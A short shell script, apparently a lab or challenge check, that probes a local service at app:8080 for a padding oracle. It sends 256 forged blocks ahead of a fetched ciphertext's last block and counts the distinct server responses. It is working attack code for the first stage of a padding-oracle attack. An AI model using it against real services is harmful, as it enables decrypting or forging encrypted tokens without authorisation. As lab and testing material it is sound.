# reaches: told padding faults apart
#-- which last bytes make right padding before the lost ticket's last block; no more is done with it
lost=$(curl -s http://app:8080/lost | grep -o '[0-9a-f]\{64,\}')
for value in $(seq 0 255); do
    printf '%030d%02x%s\n' 0 "$value" "${lost: -32}"
done | curl -s --data-binary @- http://app:8080/gate | sort | uniq -c
echo none
